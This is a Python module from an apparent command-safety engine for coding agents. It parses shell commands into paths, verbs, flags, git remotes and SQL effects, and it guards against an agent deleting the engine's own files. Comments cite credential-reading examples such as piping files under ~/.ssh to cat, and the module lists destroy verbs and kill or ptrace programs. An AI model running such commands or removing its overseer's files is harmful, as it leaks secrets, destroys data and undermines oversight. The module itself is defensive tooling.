"""What rules look at. One action becomes several subjects: each simple command, each file it
writes, each URL it fetches, each interpreter snippet, the command line as a whole.

Subjects are internal to the engine (built and consumed within one decision), so they are plain
slotted classes with lazily computed views, not boundary values.
"""
from __future__ import annotations

import re
from urllib.parse import urlsplit

from typing import TYPE_CHECKING, Any

from adr import lazyre
from adr.engine.decodeflow import runs_decoded
from adr.engine.gitwords import config_push_hosts, named_hosts, url_host
from adr.engine.pathnorm import normalize, normalize_own
from adr.engine.secretenv import PROGRAMS as SECRET_CLIENTS
from adr.engine.sqltext import effects as sql_effects
from adr.engine.secretenv import (code_sends_foreign, command_sends_foreign, fed_names, only_own_services,
                                  token_stays_with_service)
from adr.shell.effects import OUTPUT_WRITERS, is_recursive_flag, output_writes
from adr.shell.model import SimpleCommand
from adr.shell.parse import GIT_GLOBAL_VALUED
from adr.shell.serves import BUSYBOX_HTTPD
from adr.shell.uploads import uploaded_files
from adr.shell.words import positionals

if TYPE_CHECKING:  # pragma: no cover
    from adr.engine.targets import Targets
    from adr.engine.textnorm import TextView


# git plumbing that takes a value after a short option (`update-ref -m MSG`, `-dm MSG`): the value
# is a free message, so it must not shift the ref operands the git ref rules read by position
_GIT_SUB_VALUED_SHORT: dict[str, str] = {"update-ref": "m", "symbolic-ref": "m"}


def _git_positionals(args: "tuple[str, ...] | list[str]") -> list[str]:
    """git's positionals: the global options' values skipped, then for the subcommands above the
    value of `-m` (also at the end of a short cluster `-dm`, git's parse-options reads it so)."""
    pos = positionals(args, GIT_GLOBAL_VALUED)
    if not pos or pos[0] not in _GIT_SUB_VALUED_SHORT:
        return pos
    sub = list(args).index(pos[0])
    return [pos[0], *positionals(list(args)[sub + 1:], short_valued=_GIT_SUB_VALUED_SHORT[pos[0]])]



# programs whose `-NAME` argument is a signal (`pkill -HUP nginx`, `killall -USR1 x`): read as one flag,
# not as the clustered letters -H -U -P (pkill's -U is "every process of a user")
_SIGNAL_PROGRAMS = frozenset({"kill", "pkill", "killall", "skill", "snice"})
_SIGNAL_NAME = re.compile(
    r"(?:SIG)?(?:HUP|INT|QUIT|ILL|TRAP|ABRT|IOT|BUS|FPE|KILL|USR1|SEGV|USR2|PIPE|ALRM|TERM|STKFLT|CHLD|CONT"
    r"|STOP|TSTP|TTIN|TTOU|URG|XCPU|XFSZ|VTALRM|PROF|WINCH|IO|POLL|PWR|SYS|RTMIN(?:\+\d+)?|RTMAX(?:-\d+)?)"
).fullmatch

class lazy:
    """A computed attribute, stored on the instance at first use (later reads are plain attribute
    reads). Like functools.cached_property minus its per-access lock (Python ≤ 3.11), which cost
    ~1 µs on every first read here — and subjects are single-threaded, built and used by one call."""

    def __init__(self, fn):  # type: ignore[no-untyped-def]
        self.fn = fn
        self.name = fn.__name__
        self.__doc__ = fn.__doc__

    def __set_name__(self, owner: type, name: str) -> None:
        self.name = name

    def __get__(self, obj, owner=None):  # type: ignore[no-untyped-def]
        if obj is None:
            return self
        value = obj.__dict__[self.name] = self.fn(obj)
        return value


# options that take a separate value, per program, so positionals/subcommand skip the value
_NPM_VALUED = frozenset({"--prefix", "-C", "--workspace", "-w", "--registry", "--userconfig", "--cache", "--filter",
                         "--dir", "--cwd"})
_FLY_VALUED = frozenset({"-a", "--app", "-c", "--config", "-t", "--access-token", "-o", "--org", "-r", "--region"})
_NEON_VALUED = frozenset({"--api-key", "--project-id", "--org-id", "-o", "--output", "--config-dir", "--context-file"})
# Go's flag package: one dash or two
_VAULT_VALUED = frozenset(d + o for d in ("-", "--") for o in ("address", "namespace", "ns", "ca-cert", "ca-path",
                                                                "client-cert", "client-key", "format", "tls-server-name",
                                                                "wrap-ttl", "mfa", "policy-override", "header"))
_VALUED_OPTIONS: dict[str, frozenset[str]] = {
    "git": GIT_GLOBAL_VALUED,
    "kubectl": frozenset({"-n", "--namespace", "--context", "--kubeconfig", "-s", "--server", "--cluster", "--user",
                          "--token", "-l", "--selector", "-o", "--output", "-f", "--filename"}),
    "helm": frozenset({"-n", "--namespace", "--kube-context", "--kubeconfig"}),
    "docker": frozenset({"-H", "--host", "--context", "-c", "--config", "-l", "--log-level", "-f", "--file", "-p",
                         "--project-name"}),
    "npm": _NPM_VALUED, "pnpm": _NPM_VALUED, "yarn": _NPM_VALUED, "bun": _NPM_VALUED,
    "aws": frozenset({"--profile", "--region", "--output", "--endpoint-url", "--query", "--ca-bundle", "--color",
                      "--cli-read-timeout", "--cli-connect-timeout", "--cli-binary-format"}),
    "gcloud": frozenset({"--project", "--account", "--configuration", "--format", "--verbosity", "--billing-project",
                         "--impersonate-service-account", "--flags-file", "--trace-token", "--access-token-file"}),
    "az": frozenset({"--subscription", "-g", "--resource-group", "--output", "-o"}),
    "cargo": frozenset({"--manifest-path", "-Z", "--config", "-p", "--package"}),
    "gh": frozenset({"-R", "--repo"}),
    "systemctl": frozenset({"-H", "--host", "-M", "--machine"}),
    # coding agents' global options before their subcommand (`codex -c k=v exec …` is `codex exec`)
    "codex": frozenset({"-c", "--config", "-m", "--model", "-p", "--profile", "-s", "--sandbox", "-a",
                        "--ask-for-approval", "-C", "--cd", "-i", "--image", "--enable", "--disable", "--add-dir",
                        "--local-provider"}),
    "opencode": frozenset({"-m", "--model", "--log-level", "--port", "--hostname", "--agent"}),
    "goose": frozenset({"--profile", "--provider", "--model"}),
    "terraform": frozenset(),
    # the global options that come before the subcommand (`pulumi -C infra destroy`, `alembic -c x.ini downgrade`)
    "pulumi": frozenset({"-C", "--cwd", "--color", "--tracing", "--profiling", "--memprofilerate"}),
    "alembic": frozenset({"-c", "--config", "-n", "--name", "-x"}),
    "flask": frozenset({"-A", "--app", "-e", "--env-file"}),
    # infrastructure and SaaS CLIs: the global options given before the command (`doctl --context prod
    # compute droplet delete`, `fly -a app -c fly.toml apps destroy`), so the destroy verb is still read
    "doctl": frozenset({"--context", "-o", "--output", "-t", "--access-token", "-c", "--config", "-u", "--api-url"}),
    "fly": _FLY_VALUED, "flyctl": _FLY_VALUED,
    "wrangler": frozenset({"-c", "--config", "-e", "--env", "--cwd", "--env-file"}),
    "vault": _VAULT_VALUED,
    "glab": frozenset({"-R", "--repo"}),
    "heroku": frozenset({"-a", "--app", "-r", "--remote"}),
    "vercel": frozenset({"-t", "--token", "-S", "--scope", "--team", "-T", "--cwd", "-A", "--local-config", "-Q",
                         "--global-config"}),
    "netlify": frozenset({"--auth", "--filter"}),
    "firebase": frozenset({"-P", "--project", "--token", "--account"}),
    "supabase": frozenset({"--workdir", "--profile", "--network-id"}),
    "confluent": frozenset({"--environment", "--cluster", "--context"}),
    "oci": frozenset({"--profile", "--region", "--config-file", "--auth", "--endpoint", "--cert-bundle", "--output",
                      "--query"}),
    "hcloud": frozenset({"--context", "--config", "--poll-interval", "--endpoint"}),
    "stripe": frozenset({"--api-key", "--project-name", "-p", "--config", "--color", "--log-level", "--device-name"}),
    "databricks": frozenset({"-p", "--profile", "-t", "--target", "-o", "--output", "--log-level", "--log-file",
                             "--log-format"}),
    "railway": frozenset({"-s", "--service", "-e", "--environment"}),
    "pscale": frozenset({"--org", "--api-token", "--service-token", "--service-token-id", "--config", "-f", "--format"}),
    "neonctl": _NEON_VALUED, "neon": _NEON_VALUED,
    "scw": frozenset({"-p", "--profile", "-c", "--config", "-o", "--output"}),
    "atlas": frozenset({"-P", "--profile", "-o", "--output"}),
    "openstack": frozenset({"--os-cloud", "--os-region-name", "--os-project-name", "--os-project-id", "--os-auth-url",
                            "--os-username", "--os-password", "--os-token", "--os-domain-name", "--os-interface"}),
    "mc": frozenset({"--config-dir", "-C"}),
    "restic": frozenset({"-r", "--repo", "-p", "--password-file", "--password-command", "--repository-file",
                         "--cache-dir", "-o", "--option", "--cacert", "--tls-client-cert", "--limit-upload",
                         "--limit-download"}),
    "borg": frozenset({"--remote-path", "--rsh", "--umask", "--lock-wait", "--upload-ratelimit"}),
    "gsutil": frozenset({"-o", "-h", "-u", "-i"}),
    "etcdctl": frozenset({"--endpoints", "--user", "--password", "--cacert", "--cert", "--key", "--dial-timeout",
                          "--command-timeout", "-w", "--write-out", "--discovery-srv"}),
    "virsh": frozenset({"-c", "--connect", "-l", "--log", "-k", "--keepalive-interval", "-K", "--keepalive-count",
                        "-e", "--escape"}),
    "celery": frozenset({"-A", "--app", "-b", "--broker", "--result-backend", "--loader", "--config", "--workdir",
                         "-C"}),
}


_VERB_WORD = re.compile(r"[A-Za-z][A-Za-z0-9:._-]*").fullmatch
_VERB_SPLIT = re.compile(r"[:.]").split
_VERB_HEAD = re.compile(r"[a-z0-9]+").match  # delete-bucket → delete, db_reset → db
_VERB_QUALIFIERS = frozenset({"batch", "bulk", "force", "mass", "permanently", "hard"})
# actions that end a subcommand chain: what follows them is an operand (a name, a path), not a verb
_CHAIN_ENDS = frozenset({"create", "deploy", "get", "list", "ls", "describe", "show", "update", "add", "put", "set",
                         "apply", "cp", "copy", "mv", "move", "sync", "push", "pull", "upload", "download", "invoke",
                         "execute", "exec", "run", "start", "new", "init", "import", "export", "patch", "view",
                         "info", "status", "tail", "watch", "open", "connect", "ssh", "console", "query", "search",
                         "inspect", "test", "check", "validate", "diff", "plan", "build", "install", "enable",
                         "login"})
_RELEASE_TRACKS = frozenset({"alpha", "beta", "preview"})
# options that name the resource or its settings on every platform (`wrangler deploy --name purge-worker`):
# their value is never a verb, whatever the CLI
_NAMING_OPTIONS = frozenset({"--name", "--id", "--app", "--env", "--environment", "--stage", "--region", "--zone",
                             "--project", "--profile", "--output", "--format", "--message", "--description", "--title",
                             "--tag", "--label", "--service", "--cluster", "--namespace", "--bucket", "--function-name",
                             "--stack-name", "--image", "--runtime", "--memory", "--role", "--handler", "--spec",
                             "--schedule", "--uri"})
_VERB_TAIL = re.compile(r"[-_]([a-z0-9]+)$").search  # bucket-delete, image-rm, records_delete → the verb last
# APIs spelled in CamelCase (`aliyun ecs DeleteInstance`, `tccli cvm TerminateInstances`): a word break
# at each lower-to-upper step, so the verb heads the word like `delete-instance`
_CAMEL_STEP = lazyre.compile(r"(?<=[a-z0-9])(?=[A-Z])")
# a strong destroy verb run together with its noun (`cbt deletetable`, `deleteinstance`, `purgequeue`):
# the verb, when at least three letters follow (`deleted`, `removes` are not commands)
_JOINED_VERB = re.compile(r"(delete|destroy|purge|remove|terminate|truncate|wipe|erase|flush)(?=[a-z]{3})").match
# a file name is an operand, not a verb: `aws s3 cp empty.json s3://b/`, `rclone copy delete.txt r:` (while
# `ecto.drop`, `apps:destroy` are verbs)
_FILE_NAME = re.compile(r"(?i).+\.(?:json|jsonl|ndjson|ya?ml|toml|ini|cfg|conf|env|sql|txt|csv|tsv|md|rst|log|sh|py|js|"
                        r"mjs|cjs|ts|tsx|rb|go|rs|java|php|tf|tfvars|hcl|xml|html?|pdf|png|jpe?g|gif|svg|zip|tar|gz|"
                        r"tgz|bz2|xz|zst|7z|db|sqlite3?|dump|bak|parquet|avro|whl|jar|war|rpm|deb|img|iso|qcow2|lock|"
                        r"pem|crt|key|out)").fullmatch

_KILL_IN_CODE = lazyre.compile(r"\b(?:os\.kill|killpg|kill|terminate|suspend|signal|SIG[A-Z]+|ptrace)\b")

# relative, single slashes, no quote, blank, `~` or `$`: joined to the cwd it stays as it is (once
# `.` / `..` segments are ruled out, and a trailing slash dropped)
_PLAIN_REL = re.compile(r"[^/'\"~$\s]+(?:/[^/'\"~$\s]+)*/?").fullmatch


def _verb_parts(w: str, out: "list[str]") -> None:
    """Append the verb candidates of one chain word (see CommandSubject.verbs)."""
    if not w.islower():
        w = _CAMEL_STEP.sub("-", w)
    w = w.lower()
    for part in _VERB_SPLIT(w):
        if not part:
            continue
        out.append(part)
        joined = _JOINED_VERB(part)
        if joined is not None:
            out.append(joined.group(1))
        head = _VERB_HEAD(part)
        if head is not None and head.group(0) != part:
            out.append(head.group(0))
            tail = _VERB_TAIL(part)
            if tail is not None:
                out.append(tail.group(1))
            if head.group(0) in _VERB_QUALIFIERS:
                # batch-delete-image, bulk-delete, force-delete: the verb is the next word
                nxt = _VERB_HEAD(part[head.end() + 1:])
                if nxt is not None:
                    out.append(nxt.group(0))


def _after_global_options(args: "tuple[str, ...]") -> "tuple[str, ...] | None":
    """The words after the options that lead the line, each read as taking the next word as its value
    (`etcdctl --endpoints URL del`, `cbt -instance prod deleteinstance`): a CLI's global options whose
    names adr does not know. None when no option leads (the usual reading is the only one)."""
    i, n = 0, len(args)
    while i < n and args[i].startswith("-") and len(args[i]) > 1 and args[i] != "--":
        i += 1 if "=" in args[i] or i + 1 >= n or args[i + 1].startswith("-") else 2
    return args[i:] if i else None


def project_root(cwd: str, home: str) -> str:
    """The normalized working directory — the project the agent works in — or "" when it is `/`,
    a top-level directory or a home directory itself (then nothing can be called outside it)."""
    root = normalize(cwd or "/", "", home).rstrip("/")
    if root in ("", "~") or root.count("/") < (1 if root.startswith("~") else 2):
        return ""
    return root


# scratch space: nothing there belongs to a project, so nothing there counts as "outside" one
_SCRATCH = ("/tmp", "/var/tmp", "/private/tmp", "/private/var/folders", "/var/folders", "/dev/shm")


def _outside(path: str, root: str) -> bool:
    p = path.split("/**", 1)[0]  # find START/**/NAME: where it starts
    if not root or not p or p == root or p.startswith(root + "/"):
        return False
    return not any(p == t or p.startswith(t + "/") for t in _SCRATCH)

# programs that put their sources into the last argument when it is a directory (`mv a b DIR`)
_INTO_DIR = frozenset({"mv", "cp", "install", "ln", "rsync", "scp", "gmv", "gcp"})
# programs that remove, move away or change the permissions of their operands
_REMOVERS = frozenset({"rm", "rmdir", "unlink", "shred", "srm", "wipe", "trash", "trash-put", "gio", "grm"})
_FILE_REMOVERS = frozenset({"rm", "grm", "rmdir", "unlink", "shred"})  # a directory only with -r (rmdir: empty)
_MODE_FIRST = frozenset({"chmod", "chown", "chgrp", "chattr", "setfacl", "gchmod", "gchown"})
_FIND_ACTIONS = frozenset({"-delete", "-exec", "-execdir", "-ok", "-okdir"})
# programs that act on a process named by its pid (signal, ptrace-stop, starve)
PID_PROGRAMS = frozenset({"kill", "skill", "gdb", "lldb", "strace", "ltrace", "renice", "prlimit", "cpulimit",
                          "taskset", "ionice", "chrt", "gcore", "pstack", "perf", "reptyr", "criu", "cgclassify"})
_PATHISH_VALUE = lazyre.compile(r"^(?:/|~|\$HOME\b|\$\{HOME\}|\.{1,2}/)")


class _TextOptions(frozenset):
    """Options whose value is free text (a commit message, a title), never a file: `git commit -m
    'ignore .env files'` stages nothing called .env. `clusters`: short flags ending in the option's
    letter (`-am MSG`)."""

    def clusters(self, arg: str) -> bool:
        return len(arg) > 2 and arg[1] != "-" and "=" not in arg and arg[1:].isalpha() and ("-" + arg[-1]) in self


# searchers whose first operand is a pattern (awk: its program text) unless one is given by option;
# `valued`: their options that take the next word as a value (a wrongly listed flag would hide a file)
_SEARCHERS: dict[str, tuple[frozenset[str], frozenset[str]]] = {}
for _names, _given, _valued in (
        (("grep", "egrep", "fgrep", "zgrep", "zegrep", "zfgrep", "bzgrep", "xzgrep", "ggrep"),
         {"-e", "--regexp", "-f", "--file"}, {"-e", "--regexp", "-f", "--file", "-m", "--max-count", "-A", "-B", "-C",
                                               "--after-context", "--before-context", "--context", "-d", "--directories",
                                               "-D", "--devices", "--label", "--color", "--colour"}),
        (("rg",), {"-e", "--regexp", "-f", "--file", "--files", "--type-list"},
         {"-e", "--regexp", "-f", "--file", "-g", "--glob", "--iglob", "-t", "--type", "-T", "--type-not", "-m",
          "--max-count", "-A", "-B", "-C", "--after-context", "--before-context", "--context", "-j", "--threads",
          "-M", "--max-columns", "-r", "--replace", "-E", "--encoding", "--max-depth", "-d", "--type-add",
          "--ignore-file", "--pre", "--pre-glob", "--sort", "--sortr", "--max-filesize", "--colors", "--color"}),
        (("ag", "ack", "ack-grep"), {"-f", "--files-with-matches-only", "-g", "--match"},
         {"-A", "-B", "-C", "-m", "--max-count", "-G", "--file-search-regex", "--ignore", "--ignore-dir", "-p",
          "--path-to-ignore", "--depth", "--match", "-t", "--type"}),
        (("awk", "gawk", "mawk", "nawk", "busybox-awk"), {"-f", "--file", "-e", "--source", "-E", "--exec"},
         {"-F", "--field-separator", "-v", "--assign", "-f", "--file", "-e", "--source", "-E", "--exec", "-i",
          "--include", "-l", "--load"})):
    for _n in _names:
        _SEARCHERS[_n] = (frozenset(_given), frozenset(_valued))


def _pattern_position(program: str, argv: "tuple[str, ...] | list[str]") -> int:
    """The index in `argv` of a searcher's positional pattern (-1: none, or not a searcher)."""
    spec = _SEARCHERS.get(program)
    if spec is None:
        return -1
    given, valued = spec
    skip = False
    for i, a in enumerate(argv):
        if skip:
            skip = False
            continue
        if a == "--":
            return i + 1 if i + 1 < len(argv) else -1
        if a.startswith("-") and len(a) > 1:
            opt = a.split("=", 1)[0]
            if opt in given or (not opt.startswith("--") and len(opt) > 2 and ("-" + opt[1]) in given):
                return -1  # the pattern (or program) comes by option: every operand is a file
            if opt in valued and "=" not in a:
                skip = True
            continue
        return i
    return -1


_TREE_SEARCHERS = frozenset({"rg", "ag", "ack", "ack-grep"})  # recursive by default


def _searches_here(program: str, argv: "tuple[str, ...] | list[str]", pattern: int, cmd: Any) -> bool:
    """Does this searcher, given no file operand, read the working directory's tree? `grep -r X`
    does (GNU grep), as do rg/ag/ack unless their stdin is a pipe or a redirect (then they read it)."""
    if program in _TREE_SEARCHERS:
        return not (cmd.piped or cmd.stdin_text is not None or any(r.op in ("<", "<<", "<<<") for r in cmd.redirects)) \
            and (pattern >= 0 or any(a in ("-e", "--regexp") or a.startswith("--regexp=") for a in argv))
    if program not in _SEARCHERS or program in ("awk", "gawk", "mawk", "nawk", "busybox-awk"):
        return False
    for i, a in enumerate(argv):
        if a in ("-r", "-R", "--recursive", "--dereference-recursive", "--directories=recurse", "-drecurse") or \
                a in ("-d", "--directories") and argv[i + 1:i + 2] == ["recurse"]:
            return True
        if a.startswith("-") and not a.startswith("--") and re.match(r"-[abcFGhHiIlLnoqsTuUvVwxyzZEP]*[rR]", a):
            return True
    return False


def _find_here(argv: "tuple[str, ...] | list[str]") -> bool:
    """find without a start point walks `.` (`cd ~/.ssh && find -type f | xargs cat`)."""
    rest = list(argv)
    while rest and rest[0] in ("-H", "-L", "-P") or rest and rest[0].startswith(("-O", "-D")) and len(rest[0]) > 2:
        rest.pop(0)
    if rest[:1] == ["-D"]:
        rest = rest[2:]
    return not rest or rest[0].startswith(("-", "(", "!"))


_VCS_MESSAGE = _TextOptions({"-m", "--message"})
_TEXT_OPTIONS: dict[str, _TextOptions] = {
    **{p: _VCS_MESSAGE for p in ("git", "hg", "svn", "jj", "sl", "bzr", "fossil")},
    **{p: _TextOptions({"-t", "--title", "-b", "--body", "-n", "--notes", "-m", "--message", "-d", "--description"})
       for p in ("gh", "glab")},
}


_FIND_NAMES = frozenset({"-name", "-iname", "-path", "-ipath", "-wholename", "-iwholename", "-regex", "-iregex",
                         "-lname", "-ilname"})
_FIND_REMOVERS = frozenset({"rm", "rmdir", "unlink", "shred", "mv", "trash", "trash-put", "srm"})


def _find_removes_adr(argv: "tuple[str, ...]") -> bool:
    """find … -delete / -exec rm … {} : could it remove adr's files under its start points? Yes,
    unless every name test it has (-name, -path, -regex …) names something else than adr."""
    removes = "-delete" in argv or any(
        a in _FIND_ACTIONS and i + 1 < len(argv) and argv[i + 1].rsplit("/", 1)[-1] in _FIND_REMOVERS
        for i, a in enumerate(argv))
    if not removes:
        return False
    patterns = [argv[i + 1] for i, a in enumerate(argv[:-1]) if a in _FIND_NAMES]
    return not patterns or any("adr" in p.lower() or p.strip("'\"*") == "" for p in patterns)


# where pushes go: a remote's (push) URL, or the Git LFS server the large files are pushed to
_REMOTE_KEY = lazyre.compile(r"(?i)remote\.[^=\s]+\.(?:push|lfs|lfspush)?url|lfs\.(?:push)?url")


def _git_remote_url(args: "tuple[str, ...]") -> str:
    """The URL a git command points a remote at ("" when it points none)."""
    i = 0
    while i < len(args) and args[i].startswith("-"):
        if args[i] == "-c" and i + 1 < len(args):
            key, _, val = args[i + 1].partition("=")
            if _REMOTE_KEY.fullmatch(key):
                return val
        i += 2 if args[i] in GIT_GLOBAL_VALUED else 1
    rest = list(args[i:])
    if rest[:2] == ["remote", "add"]:
        pos = positionals(rest[2:], frozenset({"-t", "-m", "--mirror"}))
        return pos[1] if len(pos) >= 2 else ""
    if rest[:2] == ["remote", "set-url"] and "--delete" not in rest:
        pos = positionals(rest[2:])
        return pos[1] if len(pos) >= 2 else ""
    if rest[:1] == ["config"]:
        pos = positionals(rest[1:], frozenset({"-f", "--file", "--blob", "--type", "--default"}))
        if len(pos) >= 2 and _REMOTE_KEY.fullmatch(pos[0]):
            return pos[1]
    return ""


class CommandSubject:
    on = "command"

    def __init__(self, cmd: SimpleCommand, cwd: str, home: str, note: str = "",
                 targets: "Targets | None" = None) -> None:
        self.cmd = cmd
        self.cwd = cwd
        self.home = home
        self.note = note  # e.g. "written to ~/.bashrc"
        self.targets = targets  # other forms of each path (symlinks, globs, cd …); None: none
        self.program = cmd.argv[0] if cmd.argv else ""
        # plain attributes, not properties: the rule index reads several of them for every command
        self.program_path_attr = cmd.program_path
        self.args_tuple = cmd.argv[1:]
        self.sudo = cmd.sudo
        self.upstream = cmd.upstream
        self.downstream = cmd.downstream
        self.wrappers = cmd.wrappers
        self.via = cmd.via
        self.dynamic = cmd.dynamic
        # what is known to arrive on stdin (all of it, or the part a group shows: what rules look for in
        # it is there either way; nothing relaxes on it, see localdb for the one use of the whole text)
        self.stdin_text = cmd.stdin_text or cmd.stdin_seen or ""
        self.env = cmd.env
        self.runs_downloaded = bool(cmd.runs_downloaded)
        self.piped = cmd.piped
        self.git_branch = ""  # set by the engine when a bare `git push` here provably pushes that branch
        self.git_gc_expiry = ""  # set by the engine: the repository's config makes gc drop unreachable objects now
        self.git_hosts: "tuple[str, ...] | None" = None  # the repository's remote hosts, when known
        self.venv_program = False  # a python/pip the line's own venv creation made (adr/engine/venvs.py)
        self.local_database = False  # the judge read this reset's configuration: a SQLite file in the project
        self.line: "tuple[SimpleCommand, ...]" = ()  # the line's commands (set by the engine for token printers)

    @lazy
    def args_text(self) -> str:
        return " ".join(self.cmd.argv[1:])

    @lazy
    def text(self) -> str:
        return self.cmd.text

    @lazy
    def flags(self) -> frozenset[str]:
        out: set[str] = set()
        signals = self.cmd.program in _SIGNAL_PROGRAMS
        for a in self.cmd.argv[1:]:
            if a == "--":
                break
            if a.startswith("--") and len(a) > 2:
                out.add(a.split("=", 1)[0])
            elif a.startswith("-") and len(a) > 1 and not a[1].isdigit():
                out.add(a)  # as written (find -delete, -rf) …
                if signals and _SIGNAL_NAME(a[1:]):
                    continue  # `pkill -HUP nginx`, `kill -USR1 …`: a signal, not -H -U -P
                for ch in a[1:]:
                    if ch.isalnum():
                        out.add("-" + ch)  # … and as single letters (-r -f)
        return frozenset(out)

    @lazy
    def positionals(self) -> tuple[str, ...]:
        """Arguments that are not options — skipping the values of a tool's known valued options,
        so `git -C repo push` has positionals (push,) and `kubectl -n prod delete ns x` (delete, ns, x)."""
        if self.cmd.program == "git":
            return tuple(_git_positionals(self.cmd.argv[1:]))
        return tuple(positionals(self.cmd.argv[1:], _VALUED_OPTIONS.get(self.cmd.program, frozenset())))

    @lazy
    def operands_text(self) -> str:
        """The positionals joined by single blanks: rules read operands by position (`update-ref
        refs/heads/main HEAD~5`) without a message word's blanks or an option shifting them."""
        return " ".join(self.positionals)

    @lazy
    def verbs(self) -> tuple[str, ...]:
        """The words of the subcommand chain, split where CLIs join a verb to its noun: `apps:destroy`,
        `delete-bucket`, `bucket-delete`, `kv metadata delete`, `db_reset` → apps, destroy, delete, bucket,
        kv, metadata, db, reset (a joined word gives its first and its last part); CamelCase is joined
        the same way (`DeleteInstance`), and a strong verb run into its noun (`deletetable`) is read.
        The first six positionals — also read with unknown leading options taking a value —, only
        word-like ones (no paths, URLs, values), and the chain ends at its first other action after the
        command group (`gcloud functions deploy cleanup-job`: the name is an operand, not a verb)."""
        out: list[str] = []
        valued = _VALUED_OPTIONS.get(self.cmd.program, frozenset()) | _NAMING_OPTIONS
        args = self.cmd.argv[1:] if self.cmd.program != "git" else ()
        readings = [tuple(positionals(args, valued)[:6]) if args else self.positionals[:6]]
        lead = _after_global_options(self.cmd.argv[1:])
        if lead is not None:
            readings.append(tuple(positionals(lead, valued)[:6]))
        for words in readings:
            group = 1 if words and words[0] in _RELEASE_TRACKS else 0  # `gcloud alpha run …`: run is the group
            for i, w in enumerate(words):
                if len(w) > 48 or not _VERB_WORD(w) or _FILE_NAME(w):
                    continue
                start = len(out)
                _verb_parts(w, out)
                # `heroku apps:create NAME`: the action joined after its group ends the chain as well
                tail = out[start:] if i > group else [p for p in _VERB_SPLIT(w.lower())[1:] if p]
                if not _CHAIN_ENDS.isdisjoint(tail):
                    break
        return tuple(dict.fromkeys(out))

    def _with_forms(self, pairs: "list[tuple[str, str]]", spares: "tuple[str, ...]" = (), words: bool = False,
                    own: bool = False) -> tuple[str, ...]:
        """Normalized paths plus, when the evaluation has any, their other forms (targets.py).
        `words`: the paths are redirect targets (a space there separates brace-list words)."""
        out = [n for _, n in pairs]
        t = self.targets
        if t is not None:
            extra = [f for raw, n in pairs for f in t.forms(raw, n, spares=spares, words=words, own=own)]
            if extra:
                return tuple(dict.fromkeys(out + extra))
        return tuple(dict.fromkeys(out)) if len(out) > 1 else tuple(out)

    def _mine(self, pairs: "list[tuple[str, str]]") -> "list[tuple[str, str]] | None":
        """`pairs` as self-defense spells them (pathnorm.normalize_own: another user's home stays
        apart); None when that changes nothing (the usual case: no other home in the line)."""
        mine = [(raw, normalize_own(raw, self.cwd, self.home)) for raw, _ in pairs]
        t = self.targets
        if mine == pairs and (t is None or t.own_cwds == t.cwds and t.own_links == t.links):
            return None
        return mine

    def _own(self, pairs: "list[tuple[str, str]]", normal: "tuple[str, ...]", spares: "tuple[str, ...]" = (),
             words: bool = False) -> tuple[str, ...]:
        """`normal` (the same pairs with their forms) as self-defense spells them."""
        mine = self._mine(pairs)
        return normal if mine is None else self._with_forms(mine, spares, words, own=True)

    def _redirect_pairs(self, ops: "tuple[str, ...]") -> "list[tuple[str, str]]":
        # `xargs cat < <(ls)`: a process substitution is a pipe, not a file of the working directory
        # (the commands inside are judged themselves; what they print reaches this one upstream)
        return [(r.target, normalize(r.target, self.cwd, self.home)) for r in self.cmd.redirects
                if r.op in ops and r.target
                and not (r.op == "<" and r.target.startswith("<(") and r.target.endswith(")"))]

    def _redirects(self, ops: "tuple[str, ...]") -> tuple[str, ...]:
        return self._with_forms(self._redirect_pairs(ops), words=True)

    @lazy
    def read_sources(self) -> tuple[str, ...]:
        return self._redirects(("<", "<>"))

    @lazy
    def own_read_sources(self) -> tuple[str, ...]:
        """read_sources as self-defense spells them (another user's home stays apart)."""
        return self._own(self._redirect_pairs(("<", "<>")), self.read_sources, words=True)

    @lazy
    def _path_pairs(self) -> "list[tuple[str, str]]":
        """(argument as written, normalized) for every argument that could name a file."""
        out = []
        here = ""
        name = self.program.rsplit("/", 1)[-1]
        text_opts = _TEXT_OPTIONS.get(name)
        skip = False
        argv = self.cmd.argv[1:]
        pattern = _pattern_position(name, argv)
        for i, a in enumerate(argv):
            if skip:
                skip = False
                continue
            if i == pattern:
                continue  # grep's pattern, awk's program text: what it searches for, not a file
            if text_opts is not None and a.startswith("-") and (
                    a in text_opts or a.split("=", 1)[0] in text_opts or text_opts.clusters(a)):
                skip = "=" not in a  # `-m MSG`: the next word is a message, not a file; `--message=…` is this one
                continue
            if not a or a.startswith("-") and "=" not in a:
                continue
            if "=" in a and a.startswith("-"):
                a = a.split("=", 1)[1]
            elif "=" in a and _PATHISH_VALUE.match(v := a.split("=", 1)[1]):
                out.append((v, normalize(v, self.cwd, self.home)))  # dd of=/x, key=~/y: the value too
            if "://" in a or len(a) > 4096:
                continue
            if a[:2] == "$(" and a[-1:] == ")" or a[:1] == "`" and a[-1:] == "`" and len(a) > 1:
                # a command substitution left as written names some file here (`cd ~/.ssh && cat $(ls)`);
                # the paths inside its text are its commands' (judged as commands), not this one's
                # (`"$(cat ~/.ssh/id_rsa.pub)"` is no `~/.ssh/id_rsa.pub)`)
                a = "$(…)"
            if _PLAIN_REL(a) and ("." not in a or not any(seg in (".", "..") for seg in a.split("/"))):
                # a relative path without . or .. segments (most arguments): the normalized cwd + "/" +
                # it, without re-normalizing the cwd for each (what normalize() gives: nothing in it can
                # move the cwd part; a test checks the two agree)
                if not here:
                    here = normalize(self.cwd or "/", "", self.home).rstrip("/")
                out.append((a, here + "/" + a.rstrip("/")))
                continue
            out.append((a, normalize(a, self.cwd, self.home)))
        if not out and _searches_here(name, argv, pattern, self.cmd) or name in ("find", "gfind") and _find_here(argv):
            out.append((".", normalize(".", self.cwd, self.home)))  # `cd ~/.ssh && grep -r .`: the folder
        return out

    @lazy
    def sql_effects(self) -> tuple[str, ...]:
        """What a database client's statements do: drop, delete-all, writes-file … (adr/engine/sqltext.py)."""
        return sql_effects(self.program, self.args_tuple, self.stdin_text)

    @lazy
    def paths(self) -> tuple[str, ...]:
        """Arguments normalized as paths (every argument that could name a file), with their other
        forms; `mv a DIR` also names DIR/a."""
        return self._paths(False)

    @lazy
    def own_program_paths(self) -> tuple[str, ...]:
        """The program's path as written (`/work/x/.venv/bin/pip`), normalized like own_paths."""
        pp = self.cmd.program_path
        return (normalize_own(pp, self.cwd, self.home),) if pp else ()

    @lazy
    def own_paths(self) -> tuple[str, ...]:
        """paths as self-defense spells them (another user's home stays apart)."""
        mine = self._mine(self._path_pairs)
        return self.paths if mine is None else self._paths(True, mine)

    def _paths(self, own: bool, mine: "list[tuple[str, str]] | None" = None) -> tuple[str, ...]:
        norm = normalize_own if own else normalize
        got = self._with_forms(mine if own and mine is not None else self._path_pairs, own=own)
